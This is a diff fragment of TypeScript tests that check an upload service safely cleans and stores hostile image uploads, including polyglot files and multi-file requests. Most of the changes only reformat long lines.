   expect(sniffMedia(jpeg)?.mimeType).toBe("image/jpeg");
   expect(sniffMedia(webp)?.mimeType).toBe("image/webp");
 });
@@ -320,7 +689,11 @@ describe("the hostile upload corpus", () => {
     expect(CORPUS.length).toBeGreaterThanOrEqual(30);
   });
 
-  const runs = ENDPOINTS.flatMap((endpoint) => CORPUS.filter((item) => !item.only || endpoint.path.endsWith(item.only)).map((item) => [endpoint.label, item.name, endpoint, item] as const));
+  const runs = ENDPOINTS.flatMap((endpoint) =>
+    CORPUS.filter((item) => !item.only || endpoint.path.endsWith(item.only)).map(
+      (item) => [endpoint.label, item.name, endpoint, item] as const,
+    ),
+  );
 
   it.each(runs)("%s: %s", async (_label, _name, endpoint, item) => {
     const user = await signUp("uploader");
@@ -342,7 +715,15 @@ describe("the hostile upload corpus", () => {
     expect(response.status, "refused cases must not be stored").toBe(201);
     expect("refused" in outcome).toBe(false);
     const json: unknown = await response.json();
-    let stored: { url: string; thumbnailUrl: string; mimeType: string; sha256: string; width: number | null; height: number | null; originalName?: string };
+    let stored: {
+      url: string;
+      thumbnailUrl: string;
+      mimeType: string;
+      sha256: string;
+      width: number | null;
+      height: number | null;
+      originalName?: string;
+    };
     if (endpoint.path === "/api/assets") {
       stored = assetSchema.parse(json);
     } else {
@@ -366,10 +747,13 @@ describe("the hostile upload corpus", () => {
     if ("clean" in outcome && outcome.payloadStripped) expect(await sha256Of(bytes)).not.toBe(await sha256Of(input));
     for (const marker of MARKERS) expect(contains(bytes, marker), marker).toBe(false);
     // References keep a display name; sources and masks keep none.
-    if ("clean" in outcome && outcome.originalName && endpoint.path === "/api/references") outcome.originalName(stored.originalName!);
+    if ("clean" in outcome && outcome.originalName && endpoint.path === "/api/references")
+      outcome.originalName(stored.originalName!);
 
     // The thumbnail is just as inert.
-    const thumbnail = await SELF.fetch(`${ORIGIN}${stored.thumbnailUrl}`, { headers: { Authorization: `Bearer ${user.token}` } });
+    const thumbnail = await SELF.fetch(`${ORIGIN}${stored.thumbnailUrl}`, {
+      headers: { Authorization: `Bearer ${user.token}` },
+    });
     expect(thumbnail.status).toBe(200);
     expect(thumbnail.headers.get("Content-Type")).toMatch(/^image\/(png|jpeg|webp)$/);
     expect(thumbnail.headers.get("X-Content-Type-Options")).toBe("nosniff");
@@ -382,7 +766,14 @@ describe("the hostile upload corpus", () => {
 describe("several files in one request", () => {
   it("a source upload keeps the first file only, cleaned", async () => {
     const user = await signUp("uploader");
-    const response = await send(user, ENDPOINTS[0], { kind: "multipart", files: [{ name: "a.png", bytes: concat(png, HTML) }, { name: "b.svg", bytes: SVG }, { name: "c.png", bytes: png }] });
+    const response = await send(user, ENDPOINTS[0], {
+      kind: "multipart",
+      files: [
+        { name: "a.png", bytes: concat(png, HTML) },
+        { name: "b.svg", bytes: SVG },
+        { name: "c.png", bytes: png },
+      ],
+    });
     expect(response.status).toBe(201);
     const after = await footprint(user.id);
     expect(after.assets).toHaveLength(1);
@@ -406,7 +797,11 @@ describe("several files in one request", () => {
     expect(response.status).toBe(201);
     const result = referenceUploadResultSchema.parse(await response.json());
     expect(result.items.map((item) => item.originalName)).toEqual(["poly.png", "photo.jpg"]);
-    expect(result.errors.map((error) => [error.index, error.status])).toEqual([[1, 415], [2, 413], [3, 415]]);
+    expect(result.errors.map((error) => [error.index, error.status])).toEqual([
+      [1, 415],
+      [2, 413],
+      [3, 415],
+    ]);
     const after = await footprint(user.id);
     expect(after.references).toHaveLength(2);
     for (const item of result.items) {
